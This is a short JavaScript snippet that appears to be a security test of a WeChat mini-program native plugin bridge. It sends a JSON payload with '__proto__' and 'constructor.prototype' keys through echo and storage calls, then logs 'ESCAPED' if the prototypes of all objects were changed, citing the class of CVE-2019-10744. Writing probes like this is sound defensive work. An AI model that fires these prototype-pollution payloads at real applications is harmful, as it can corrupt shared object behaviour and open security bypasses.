// Has the host send keys such as __proto__ back, to change the prototypes of all objects
// Source: the kind of CVE-2019-10744 (lodash), of bridges that merge messages
const data = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"a":{"__proto__":{"polluted":1}}}');
const look = () => {
  if ({}.polluted || [].polluted || (() => {}).polluted) console.log('ESCAPED: prototypes were changed');
};
wx.invokeNativePlugin({ api_name: 'echo', data, success: look });
try { wx.invokeNativePlugin({ api_name: 'echoSync', sync: true, data }); } catch (e) {}
wx.setStorageSync('__proto__', { polluted: 1 });
wx.getStorageSync('__proto__');
wx.getStorageSync('constructor');
look();
